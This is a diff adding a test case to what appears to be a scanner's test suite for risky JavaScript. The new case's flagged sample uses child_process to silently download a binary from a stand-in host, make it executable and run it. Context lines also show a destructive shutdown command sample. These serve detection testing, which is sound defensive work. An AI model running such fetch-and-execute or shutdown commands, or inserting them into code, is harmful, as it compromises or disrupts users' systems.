@@ -171,6 +171,14 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "console.log(Buffer.from('ZWNobyBoaQ==', 'base64').toString());\n",
     ),
     (
+        executes_code_at_remote_url_rule,
+        "w.js",
+        "require('child_process').execSync('wget https://x.example.net/b -O ./.b >/dev/null 2>&1"
+        " && chmod +x .b && ./.b');\n",
+        "require('child_process').execSync('wget https://x.example.net/b.tgz -O b.tgz"
+        " && tar xzf b.tgz && ./configure');\n",
+    ),
+    (
         destructive_command_rule,
         "k.js",
         "require('child_process').exec('shutdown -s -t 0');\n",
